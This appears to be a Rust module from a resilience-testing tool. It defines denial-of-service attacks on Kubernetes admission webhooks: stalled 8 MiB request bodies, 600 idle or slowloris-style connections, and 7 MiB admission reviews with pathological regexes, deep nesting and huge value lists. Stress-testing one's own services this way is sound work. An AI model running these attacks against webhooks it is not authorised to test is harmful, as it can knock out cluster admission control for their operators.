//! Attacks on the admission webhooks by clients that can reach their port.

use std::sync::Arc;

use anyhow::{Context, Result};
use bytes::Bytes;
use futures::FutureExt;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::crowd;
use super::http1::{ask, post};
use crate::dialer::Dialer;
use crate::{Attack, Counts, Deadline, Tally, Target};

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "webhook-bodies",
        what: "24 reviews of 8 MiB whose last byte never comes, on both paths",
        run: |target, deadline| bodies(target, deadline).boxed(),
    },
    Attack {
        name: "webhook-idle",
        what: "600 connections that say nothing after the handshake",
        run: |target, deadline| idle(target, deadline).boxed(),
    },
    Attack {
        name: "webhook-reviews",
        what: "Reviews of 7 MiB: a regex of nothing but {, deep objects, and ones of many values",
        run: |target, deadline| reviews(target, deadline).boxed(),
    },
];

const NONE: &str = "there are no webhooks without an API server";
const LARGEST: usize = 8 << 20;
const LARGE: usize = 7 << 20;

async fn bodies(target: Arc<Target>, deadline: Deadline) -> Result<Tally> {
    let Some(address) = target.webhook else { return Ok(Tally::skipped(NONE)) };
    let (counts, dialer) = (Counts::new(), Dialer::unchecked(address)?);
    let body: Bytes = vec![b' '; LARGEST - 1].into();
    let shared = counts.clone();
    crowd(24, deadline, &counts, move |index| {
        let (counts, dialer, body) = (shared.clone(), dialer.clone(), body.clone());
        async move {
            let path = if index % 2 == 0 { "/validate" } else { "/inject" };
            let request = [&post(path, LARGEST), &body[..]].concat();
            let socket = dialer.dial().await?;
            counts.sent(request.len());
            counts.refused(ask(socket, &request).await?);
            Ok(())
        }
    })
    .await;
    Ok(counts.tally())
}

async fn idle(target: Arc<Target>, deadline: Deadline) -> Result<Tally> {
    let Some(address) = target.webhook else { return Ok(Tally::skipped(NONE)) };
    let (counts, dialer) = (Counts::new(), Dialer::unchecked(address)?);
    let shared = counts.clone();
    crowd(600, deadline, &counts, move |index| {
        let (counts, dialer) = (shared.clone(), dialer.clone());
        async move {
            let mut socket = dialer.dial().await?;
            counts.answered();
            if index % 2 == 0 {
                socket.write_all(b"POST /validate HTTP/1.1\r\nx-slow: ").await.context("cannot send")?;
            }
            counts.sent(0);
            socket.read(&mut [0; 100]).await.context("reset")?;
            anyhow::bail!("closed")
        }
    })
    .await;
    Ok(counts.tally())
}

/// A review of an object with that `spec`.
fn review(group: &str, kind: &str, spec: &str) -> Vec<u8> {
    let object = format!(r#"{{"metadata":{{"name":"attack","namespace":"default"}},"spec":{spec}}}"#);
    let request = format!(
        "{{\"uid\":\"1\",\"operation\":\"CREATE\",\"kind\":{{\"group\":\"{group}\",\"version\":\"v1\",\
         \"kind\":\"{kind}\"}},\"object\":{object}}}"
    );
    let body =
        format!(r#"{{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{request}}}"#);
    [post("/validate", body.len()), body.into_bytes()].concat()
}

fn large_reviews() -> [Bytes; 4] {
    let regex = format!(
        "{{\"rules\":[{{\"matches\":[{{\"headers\":[{{\"name\":\"a\",\"type\":\"RegularExpression\",\
         \"value\":\"{}\"}}]}}]}}]}}",
        "{".repeat(LARGE)
    );
    let deep = format!(r#"{{"hosts":{}{}}}"#, "[".repeat(LARGE / 2), "]".repeat(LARGE / 2));
    let values = format!(r#"{{"hosts":[{}0]}}"#, "0,".repeat(LARGE / 2));
    let hosts = format!(r#"{{"hosts":[{}"a.b"]}}"#, "\"*\",".repeat(LARGE / 4));
    [
        review("gateway.networking.k8s.io", "HTTPRoute", &regex).into(),
        review("networking.istio.io", "VirtualService", &deep).into(),
        review("networking.istio.io", "VirtualService", &values).into(),
        review("networking.istio.io", "ServiceEntry", &hosts).into(),
    ]
}

async fn reviews(target: Arc<Target>, deadline: Deadline) -> Result<Tally> {
    let Some(address) = target.webhook else { return Ok(Tally::skipped(NONE)) };
    let (counts, dialer, all) = (Counts::new(), Dialer::unchecked(address)?, large_reviews());
    let shared = counts.clone();
    crowd(16, deadline, &counts, move |index| {
        let (counts, dialer, request) = (shared.clone(), dialer.clone(), all.get(index % all.len()).cloned());
        async move {
            let request = request.context("there are four")?;
            let socket = dialer.dial().await?;
            counts.sent(request.len());
            counts.status(ask(socket, &request).await?);
            Ok(())
        }
    })
    .await;
    Ok(counts.tally())
}
